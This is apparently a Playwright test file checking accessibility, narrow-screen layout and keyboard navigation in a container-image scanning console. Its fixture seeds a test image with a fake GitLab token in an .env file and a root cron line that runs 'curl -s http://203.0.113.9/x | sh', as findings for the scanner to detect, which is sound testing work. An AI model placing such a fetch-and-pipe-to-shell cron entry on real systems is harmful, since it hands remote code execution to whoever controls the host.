import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { Page } from 'playwright-core';
import { ADMIN_PASSWORD, startServer, type TestServer } from '../server.ts';
import { violationsOf } from './axe.ts';
import { buildConsole, launchBrowser, openPage, tooWide } from './browser.ts';
import { analysed, dpkgStatus, importTracker, OS_RELEASE, pushImage } from './console-data.ts';

async function fill(server: TestServer): Promise<void> {
  await importTracker(server);
  const files = [
    OS_RELEASE,
    dpkgStatus([
      ['libssl3', '3.0.17-1~deb12u1', 'openssl'],
      ['libexpat1', '2.5.0-1', 'expat'],
      ['zlib1g', '1:1.2.13.dfsg-1', 'zlib'],
    ]),
    { path: 'app/.env', text: `GITLAB_TOKEN=${['glpat', 'Zk3hXcv7Pq0y1Lr9tUw2'].join('-')}\n` },
    { path: 'etc/cron.d/update', text: '* * * * * root curl -s http://203.0.113.9/x | sh\n' },
  ];
  await pushImage(server, { repository: 'shop/web', tag: '1', layers: [{ instruction: 'debootstrap', files }] });
  await pushImage(server, {
    repository: 'tools/scratch',
    tag: '1',
    layers: [{ instruction: 'COPY tool /', files: [{ path: 'tool', text: 'binary' }] }],
  });
  await analysed(server, 'shop/web', '1');
  await analysed(server, 'tools/scratch', '1');
}

const pages = [
  '/signin',
  '/repositories',
  '/new',
  '/r/shop/web',
  '/r/shop/web?tag=1',
  '/r/shop/web?tab=settings',
  '/r/shop/web:1',
  '/r/shop/web:1?tab=findings',
  '/r/shop/web:1?tab=findings&by=list',
  '/r/shop/web:1?tab=hygiene',
  '/r/shop/web:1?tab=packages',
  '/r/shop/web:1?tab=layers&layer=0',
  '/r/shop/web:1?tab=configuration',
  '/r/shop/web:1?tab=referrers',
  '/r/shop/web:1?tab=raw',
  '/r/tools/scratch:1',
  '/search',
  '/search?q=CVE-2026-10001',
  '/vulnerabilities/CVE-2026-10001',
  '/activity',
  '/advisories',
  '/accounts',
  '/organisations',
  '/organisations/shop',
  '/organisations/shop?tab=roles',
  '/organisations/shop?tab=members',
  '/organisations/shop?tab=robots',
  '/notifications',
  '/audit',
  '/directories',
  '/account',
  '/nothing',
] as const;

async function settled(page: Page, path: string): Promise<void> {
  await page.goto(path);
  await page.locator('h1').first().waitFor();
  await page.locator('.bones').first().waitFor({ state: 'detached' });
  await page.waitForTimeout(60);
}

test('axe finds nothing serious on any page, in both themes, wide and narrow', async (t) => {
  await buildConsole();
  await using server = await startServer();
  const browser = await launchBrowser();
  t.after(() => browser.close());
  const violations: string[] = [];
  for (const colorScheme of ['light', 'dark'] as const) {
    if (colorScheme === 'light') await fill(server);
    const { page, complaints } = await openPage(browser, server.url, { colorScheme });
    await page.request.post('/api/v1/session', { data: { name: 'admin', password: ADMIN_PASSWORD } });
    for (const path of pages) {
      await settled(page, path);
      if (path.includes('tab=findings')) {
        await page.locator('tbody a[data-row]').first().click();
        await page.locator('.drawer').waitFor();
      }
      for (const each of await violationsOf(page)) violations.push(`${path}, ${colorScheme}: ${each}`);
    }
    await page.setViewportSize({ width: 360, height: 800 });
    for (const path of pages) {
      await settled(page, path);
      assert.ok((await tooWide(page)) <= 0, `${path} scrolls sideways at 360 px`);
    }
    assert.deepEqual(complaints, []);
  }
  assert.deepEqual(violations, []);
});

test('the keyboard alone: sign in, skip link, rows, drawer, search, places, keys off', async (t) => {
  await buildConsole();
  await using server = await startServer();
  await fill(server);
  const browser = await launchBrowser();
  t.after(() => browser.close());
  const { page } = await openPage(browser, server.url);
  const press = (...keys: string[]) =>
    keys.reduce((done, key) => done.then(() => page.keyboard.press(key)), Promise.resolve());
  const focused = () => page.evaluate<string>('document.activeElement?.textContent?.trim() ?? ""');

  await page.goto('/signin?next=/r/shop/web');
  await page.getByLabel('Name').waitFor();
  await page.keyboard.type('admin');
  await press('Tab');
  await page.keyboard.type(ADMIN_PASSWORD);
  await press('Enter');
  await page.waitForURL('**/r/shop/web');
  await page.getByRole('link', { name: '1', exact: true }).waitFor();

  await page.reload();
  await page.getByRole('link', { name: '1', exact: true }).waitFor();
  await press('Tab');
  assert.equal(await focused(), 'Skip to content');
  await press('j');
  assert.equal(await focused(), '1');
  await press('Enter');
  await page.waitForURL('**/r/shop/web:1');
  await page.getByRole('link', { name: /^Findings/ }).focus();
  await press('Enter');
  await page.waitForURL('**tab=findings**');
  await page.getByRole('button', { name: /Only fixable/ }).waitFor();
  await press('f');
  await page.waitForURL('**fixable=1**');
  await press('j');
  const id = await focused();
  assert.match(id, /^CVE-/);
  await press('Enter');
  await page.getByRole('complementary', { name: new RegExp(id) }).waitFor();
  await press('Escape');
  await page.locator('.drawer').waitFor({ state: 'detached' });
  assert.equal(await focused(), id, 'closing gives the focus back');

  await press('?');
  await page.getByRole('dialog', { name: 'Keys' }).waitFor();
  await page.getByLabel('Single keys do something').uncheck();
  await press('Escape');
  await page.getByRole('dialog', { name: 'Keys' }).waitFor({ state: 'detached' });
  const before = page.url();
  await press('g', 'a');
  assert.equal(page.url(), before, 'switched off, keys do nothing');
  await page.getByRole('button', { name: /Account and settings/ }).click();
  await page.getByRole('button', { name: 'Keys ?' }).click();
  await page.getByLabel('Single keys do something').check();
  await press('Escape');
  await press('g', 'a');
  await page.waitForURL('**/activity');
  await press('/');
  await page.keyboard.type('openssl');
  await press('Enter');
  await page.waitForURL('**/search?q=openssl');

  await page.setViewportSize({ width: 390, height: 800 });
  await page.goto('/r/shop/web:1?tab=findings');
  await page.locator('tbody a[data-row]').first().focus();
  await press('Enter');
  const sheet = page.getByRole('dialog', { name: /CVE/ });
  await sheet.waitFor();
  for (let i = 0; i < 30; i++) await press('Tab');
  assert.equal(await page.evaluate('document.querySelector(".drawer").contains(document.activeElement)'), true);
});
